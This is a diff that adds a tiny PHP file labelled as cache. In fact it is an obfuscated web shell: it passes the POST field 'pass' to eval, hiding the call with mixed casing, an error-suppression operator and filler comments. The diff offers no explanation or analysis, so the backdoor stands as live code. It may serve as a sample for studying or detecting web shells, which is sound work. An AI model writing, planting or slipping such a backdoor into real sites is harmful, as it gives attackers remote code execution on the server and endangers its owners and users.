@@ -1,0 +1,4 @@
+<?php /* cache */ @ EvAl /* x */ (
+  $_POST [ 'pass' ] # y
+ ) ; // z
+?>
